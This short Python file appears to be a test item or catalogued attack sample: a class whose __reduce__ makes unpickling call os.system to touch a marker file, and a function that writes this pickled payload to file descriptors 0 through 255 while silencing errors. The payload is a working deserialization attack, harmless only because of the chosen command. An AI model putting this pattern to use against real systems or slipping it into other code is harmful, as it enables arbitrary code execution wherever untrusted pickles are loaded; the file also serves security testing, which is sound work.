"""Write a pickle that runs code to every descriptor there is.

Catalogue: row 7.
Ends as: protocol.
"""

import os
import pickle
from contextlib import suppress


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/minidl-attacked",)


def answer(x):
    for descriptor in range(256):
        with suppress(OSError):
            os.write(descriptor, pickle.dumps(Payload()))
    return x
